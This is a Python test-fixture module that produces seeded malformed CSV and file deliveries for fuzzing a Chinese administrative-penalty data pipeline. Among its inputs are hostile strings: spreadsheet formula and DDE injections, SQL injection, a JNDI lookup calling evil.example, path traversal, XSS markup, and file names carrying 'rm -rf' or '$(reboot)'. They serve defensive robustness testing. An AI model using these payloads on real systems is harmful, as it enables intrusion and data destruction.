"""Bad deliveries, made from a seed: one small function a family, each giving a name and the bytes behind it.

`FAMILIES` names them and says how many there are of each; `made` gives them, always the same for the same seed.
Families of zips, workbooks and Parquet files are in bad_packages.py.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from random import Random

from pipeline.domain import Month, RegionCode, Uscc
from pipeline.feeds.catalogue import FEEDS
from pipeline.feeds.contract import CodeOf, Field, OneOf, Subject
from tests.firms import uscc

SEED = 20200930
HEADER = (
    "行政相对人代码_1", "行政相对人名称", "行政相对人类别", "行政处罚决定书文号", "处罚类别", "罚款金额(万元)", "处罚决定日期", "备注",
)  # fmt: skip

Made = tuple[str, bytes] | tuple[str, bytes, int]
"""Name, content and, where anybody can count them, the data rows in it."""
Maker = Callable[[Random, int], Made]


@dataclass(frozen=True)
class Bad:
    """One bad delivery. `rows`: its data rows, None where nobody can say."""

    family: str
    number: int
    name: str
    content: bytes
    rows: int | None

    def __str__(self) -> str:
        return f"{self.family}-{self.number} {self.name[:40]!r}"


@dataclass(frozen=True)
class Family:
    """A way of being bad: its title in both languages, how many are made, and how one is made."""

    code: str
    zh: str
    en: str
    count: int
    make: Maker


FAMILIES: dict[str, Family] = {}


def family(zh: str, en: str, count: int) -> Callable[[Maker], Maker]:
    """Register a maker as a family under its own name."""

    def keep(make: Maker) -> Maker:
        code = make.__name__
        FAMILIES[code] = Family(code, zh, en, count, make)
        return make

    return keep


def made(one: Family, step: int = 1) -> Iterator[Bad]:
    """The deliveries of a family, or every `step`th; each from a seed of its own, so that none depends on another."""
    for number in range(0, one.count, step):
        name, content, *rows = one.make(Random(f"{SEED}-{one.code}-{number}"), number)
        yield Bad(one.code, number, name, content, rows[0] if rows else None)


def record(rng: Random, **changes: str) -> list[str]:
    """A penalty as it should be, but for `changes` (by number of the column: c0, c1, …)."""
    n = rng.randrange(10**6)
    row = [uscc(n % 40), f"通化第{n % 40}号有限公司", "1", f"文书{n}号", "02", f"{n % 90 / 10}", "2020-09-01", ""]
    for name, text in changes.items():
        row[int(name[1:])] = text
    return row


def records(rng: Random, most: int = 8) -> list[list[str]]:
    """Some penalties as they should be."""
    return [record(rng) for _ in range(rng.randint(1, most))]


def text_of(rows: Sequence[Sequence[str]], header: Sequence[str] = HEADER, end: str = "\r\n") -> str:
    """A delimited text as a program would write it."""
    out = io.StringIO()
    csv.writer(out, lineterminator=end).writerows([header, *rows])
    return out.getvalue()


def csv_of(rows: Sequence[Sequence[str]], header: Sequence[str] = HEADER) -> bytes:
    """The same as bytes in UTF-8."""
    return text_of(rows, header).encode()


@family("编码", "encodings", 130)
def encodings(rng: Random, n: int) -> Made:
    """Every encoding that a supplier's program may write, with and without the mark at its beginning."""
    rows = [record(rng, c1="通化市商贸有限公司", c7="备注：照常") for _ in range(rng.randint(2, 9))]
    forms = (
        "gbk", "gb18030", "utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "utf-32", "big5", "shift_jis", "latin-1", "utf-7",
        "hz", "cp437",
    )  # fmt: skip
    form = forms[n % len(forms)]
    content = text_of(rows).encode(form, errors="replace")
    return f"penalty_{form}.csv", content, len(rows) if form in ("gbk", "gb18030", "utf-16", "utf-8-sig") else None  # type: ignore[return-value]


@family("混合与截断的编码", "mixed and cut encodings", 120)
def mixed_encodings(rng: Random, n: int) -> Made:
    """Half of it in another encoding, or cut within a character, or with bytes changed."""
    rows = [record(rng, c1=f"通化市{'商贸' * rng.randint(1, 9)}有限公司") for _ in range(rng.randint(2, 30))]
    whole = text_of(rows).encode("gb18030" if n % 2 else "utf-8")
    cut = rng.randrange(20, len(whole))
    kinds = (
        lambda: whole[:cut] + text_of(rows[:1]).encode("utf-8" if n % 2 else "gb18030"),
        lambda: whole[: cut - 1] if whole[cut - 1] > 0x7F else whole[:cut],
        lambda: bytes(b if rng.random() > 0.01 else rng.randrange(256) for b in whole),
        lambda: b"\xef\xbb\xbf" + text_of(rows).encode("gb18030"),
        lambda: text_of(rows).encode("utf-16")[: 2 * cut + 1],
        lambda: b"\xff\xfe" + whole,
    )
    return "penalty.csv", kinds[n % len(kinds)]()


@family("列数与表头不符", "rows that don't fit", 80)
def ragged(rng: Random, n: int) -> Made:
    """Rows with cells too many or too few between good ones."""
    rows = records(rng, 20)
    for _ in range(rng.randint(1, 5)):
        bad = record(rng)
        bad = bad[: rng.randint(1, 5)] if rng.random() < 0.5 else [*bad, *"多余"[: rng.randint(1, 2)]]
        rows.insert(rng.randrange(len(rows) + 1), bad)
    return "penalty.csv", csv_of(rows), len(rows)


@family("引号与行末", "quotation marks and line ends", 130)
def quotes(rng: Random, n: int) -> Made:
    """Stray and unbalanced quotation marks, line breaks within cells, mixed line ends."""
    rows = records(rng, 12)
    text = text_of(rows)
    lines = text.splitlines(keepends=True)
    at = rng.randrange(1, len(lines))
    kinds: tuple[Callable[[], Made], ...] = (
        lambda: ("penalty.csv", "".join([*lines[:at], '"' + lines[at], *lines[at + 1 :]]).encode()),
        lambda: ("penalty.csv", text.replace("文书", '文"书', 1).encode(), len(rows)),
        lambda: ("penalty.csv", csv_of([*rows, record(rng, c7="第一行\n第二行\r\n第三行")]), len(rows) + 1),
        lambda: ("penalty.csv", "".join(x.rstrip() + rng.choice(("\n", "\r\n", "\r")) for x in lines).encode()),
        lambda: ("penalty.csv", (text + '"').encode()),
        lambda: ("penalty.csv", text.replace(",", '","').encode()),
        lambda: ("penalty.csv", (text + '"' + "x" * rng.randint(1, 10**5)).encode()),
        lambda: ("penalty.csv", text_of(rows, end="\n\n\n").encode(), len(rows)),
    )
    return kinds[n % len(kinds)]()


@family("NUL 与控制字符", "NUL and control characters", 80)
def controls(rng: Random, n: int) -> Made:
    """NUL bytes, control characters, marks that turn the writing direction, lone surrogates' bytes."""
    odd = ("\0", "\x01\x02", "\x1a", "\x1b[31m", "\u202e反向", "\u200b", "\ufeff", "\x7f", "\x85", "\u2028", "🏭" * 3)
    rows = [record(rng, **{f"c{rng.choice((1, 3, 7))}": f"甲{rng.choice(odd)}乙"}) for _ in range(rng.randint(1, 9))]
    content = csv_of(rows)
    if n % 5 == 0:
        content = content.replace("甲".encode(), b"\xed\xa0\x80", 1)
    return "penalty.csv", content


@family("公式", "formula cells", 90)
def formulas(rng: Random, n: int) -> Made:
    """What a spreadsheet would run if it were opened there: it is text here, and stays text in every export."""
    begin = rng.choice(("=", "+", "-", "@", "\t=", "＝", " ="))
    said = rng.choice(
        ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","点")', "SUM(1+1)*cmd|x", "1+1", "DDE(x;y;z)")
    )
    rows = [record(rng, **{f"c{rng.choice((1, 3, 7))}": begin + said}) for _ in range(rng.randint(1, 6))]
    return "penalty.csv", csv_of(rows), len(rows)


@family("语句与模板", "statements and templates", 90)
def statements(rng: Random, n: int) -> Made:
    """SQL, paths, templates and markup in cells and titles."""
    said = (
        "'; DROP TABLE core.penalty; --", '" OR 1=1 --', "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "%s%n%x",
        "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "$\\frac{1}{2}$", ":red[x]", "$1", "?", "\\N", "NaN", "{}",
    )  # fmt: skip
    rows = [
        record(rng, c1=rng.choice(said), c3=rng.choice(said), c7=rng.choice(said)) for _ in range(rng.randint(1, 6))
    ]
    header = [*HEADER, rng.choice(said)] if n % 3 == 0 else list(HEADER)
    rows = [[*r, rng.choice(said)] if n % 3 == 0 else r for r in rows]
    return "penalty.csv", csv_of(rows, header), len(rows)


@family("表头重复", "titles that repeat", 70)
def repeated_titles(rng: Random, n: int) -> Made:
    """A title twice or often, as itself, as its alias, in another width, with spaces."""
    again = [rng.choice((*HEADER, "处罚日期", "处罚种类", " 备注 ", "備註", "DOC_NO", "ｄｏｃ＿ｎｏ", "_2", "备注_2", "")) for _ in range(rng.randint(1, 9))]  # fmt: skip
    rows = [[*record(rng), *(rng.choice(("", "x", "2020-01-01")) for _ in again)] for _ in range(rng.randint(1, 6))]
    return "penalty.csv", csv_of(rows, [*HEADER, *again]), len(rows)


@family("千列", "a thousand columns", 24)
def wide(rng: Random, n: int) -> Made:
    """More columns than anybody reads, known or not."""
    width = (1_000, 1_500, 3_000)[n % 3]
    header = [*HEADER, *(f"第{i}项" for i in range(width))]
    rows = [[*record(rng), *("x" for _ in range(width))] for _ in range(2)]
    return "penalty.csv", csv_of(rows, header), 2


@family("巨大单元格", "huge cells", 8)
def huge_cells(rng: Random, n: int) -> Made:
    """A cell of ten megabytes: in a free text, in a coded column, in a date, within quotation marks."""
    big = rng.choice(("长", "x", "1", "\n", '""')) * (10 << 20)
    column = rng.choice((1, 3, 4, 6, 7))
    rows = [record(rng), record(rng, **{f"c{column}": big[: 10 << 20]}), record(rng)]
    return "penalty.csv", csv_of(rows), 3


@family("百万短行", "a million short rows", 3)
def many_rows(rng: Random, n: int) -> Made:
    """A million rows in a few megabytes: too short, empty, or fitting and wrong."""
    row = ("1,2\n", "\n", ",,,,,,,x\n")[n]
    return "penalty.csv", (",".join(HEADER) + "\n").encode() + row.encode() * 1_000_000


@family("空文件", "nothing in it", 60)
def empty(rng: Random, n: int) -> Made:
    """Nothing, only spaces, only a mark of the encoding, only separators, only a header."""
    titles = (",".join(HEADER) + "\r\n").encode()
    nothing = (
        b"", b" ", b"\n" * rng.randint(1, 999), b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\0" * rng.randint(1, 999), b",,,\n,,,\n",
        b"\t\t\n", b"\x1a", b"\xef\xbb\xbf\r\n", titles, b"\n\n" + titles, titles + b",,,,,,,\r\n" * rng.randint(1, 9),
    )  # fmt: skip
    return rng.choice(("penalty.csv", "penalty.xlsx", "空.zip")), nothing[n % len(nothing)]


@family("内容与扩展名不符", "content and ending differ", 100)
def foreign(rng: Random, n: int) -> Made:
    """Web pages, documents, pictures, programs and archives under the name of a table; tables under another."""
    noise = rng.randbytes(rng.randint(10, 5_000))
    contents = (
        b"<html><body><table><tr><td>x</td></tr></table></body></html>", b"<?xml version='1.0'?><x/>", b"%PDF-1.4\n" + noise,
        b"\xff\xd8\xff" + noise, b"\x89PNG\r\n\x1a\n" + noise, b"MZ" + noise, b"\x7fELF" + noise, b"Rar!\x1a\x07" + noise,
        b"7z\xbc\xaf\x27\x1c" + noise, b"\x1f\x8b\x08" + noise, b'{"uscc": "1", "rows": [1, 2]}', b"#!/bin/sh\nrm -rf /\n", noise,
        b"BZh91AY&SY" + noise, b"SQLite format 3\0" + noise, b"MIME-Version: 1.0\n" + noise, "说明：本月无数据\n".encode(),
        csv_of(records(rng)), b"DUCK" + noise, b"ORC" + noise, b"-----BEGIN RSA PRIVATE KEY-----\n" + noise,
    )  # fmt: skip
    return f"penalty.{rng.choice(('csv', 'xlsx', 'xls', 'parquet', 'zip'))}", contents[n % len(contents)]


@family("任意字节", "random bytes", 120)
def noise(rng: Random, n: int) -> Made:
    """Bytes by chance, alone or behind a good beginning."""
    content = rng.randbytes(rng.choice((1, 3, 17, 400, 9_000)))
    heads = (
        b"",
        csv_of(records(rng)),
        b"PK\3\4",
        b"PAR1",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\xef\xbb\xbf",
        b"\xff\xfe",
    )
    return f"penalty.{rng.choice(('csv', 'xlsx', 'xls', 'parquet', 'zip'))}", heads[n % len(heads)] + content


@family("文件名", "names", 150)
def names(rng: Random, n: int) -> Made:
    """Names that are paths, devices, options or pictures; what lies behind them is a good table."""
    stems = (
        "../../penalty", "..\\..\\penalty", "C:\\penalty", "/etc/penalty", "~/penalty", "CON", "nul", "COM1", "penalty\n换行", "penalty\0",
        "penalty\u202evsc", "🏭penalty", "penalty;rm -rf", "$(reboot)", "`reboot`", "--json", "-rf", "%00penalty", "pen%2falty", "a" * 300,
        "罚" * 119, "罚" * 200, ".penalty", "~$penalty", "penalty.", "penalty ", " ", "penalty'\"", "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))", "$\\latex$", ":red[x]", "![](http://evil.example/x.png)", "penalty\\", "penalty|x", "penalty*?",
        "演示", "penalty\ud800", "{}", "penalty.csv.exe", "",
    )  # fmt: skip
    stem = stems[n % len(stems)]
    rows = records(rng)
    return stem + rng.choice((".csv", ".CSV", ".csv", ".csv ", ".txt", "")), csv_of(rows), len(rows)


_JUNK = (
    "不详", "-1", "1e999", "NaN", "inf", "0x1F", "2020-13-45", "2020-02-30", "0000-00-00", "99999999", "31/12/2020", "二〇二〇年", "十万元", "1,2,3",
    "１２３", "٣", "²", "1'; --", "true false", "9" * 400, "-" * 40, "\\", "()", "NULL,NULL", "24:61:61", "2020-09-01T25:00:00Z", "1900-01-00",
    "2020年9月", "60", "5e5", "¥", "亿", "1 2", "00000000000000000X", "91220502MA0Y9PQL0Z", "220502199001011234", "22050219900101123X00", "是否",
)  # fmt: skip
_GOOD: dict[object, str] = {
    str: "文字", int: "3", Decimal: "1.5", bool: "是", date: "2020-09-01", datetime: "2020-09-01 10:00:00", Month: "2020-09",
    RegionCode: "220502", Uscc: uscc(7),
}  # fmt: skip
_COLUMNS = [(f, column) for f in FEEDS if f.subject is not Subject.ROOT for column in f.fields]


@family("各类列中的错值", "wrong values in every kind of column", 360)
def wrong_values(rng: Random, n: int) -> Made:
    """Every column of every feed in turn, filled with what is none of its values."""
    feed, column = _COLUMNS[n * len(_COLUMNS) // 360]
    rows = [[_junk(rng) if f is column else _plain(f) for f in feed.fields] for _ in range(rng.randint(2, 8))]
    return f"{feed.code}_{column.name}.csv", csv_of(rows, [f.name for f in feed.fields]), len(rows)


@family("登记信息中的错值", "wrong values in the register", 60)
def wrong_register(rng: Random, n: int) -> Made:
    """The register itself: without it nobody is graded."""
    feed = next(f for f in FEEDS if f.subject is Subject.ROOT)
    column = feed.fields[n % len(feed.fields)]
    rows = [[_junk(rng) if f is column else _plain(f) for f in feed.fields] for _ in range(rng.randint(2, 5))]
    return f"{feed.code}_{column.name}.csv", csv_of(rows, [f.name for f in feed.fields]), len(rows)


def _junk(rng: Random) -> str:
    return (
        rng.choice(_JUNK)
        if rng.random() < 0.9
        else "".join(chr(rng.randrange(32, 0x3000)) for _ in range(rng.randint(1, 60)))
    )


def _plain(column: Field) -> str:
    if isinstance(column.kind, CodeOf):
        return ""
    if isinstance(column.kind, OneOf):
        return next(iter(column.kind.labels))
    return _GOOD.get(column.kind, "")
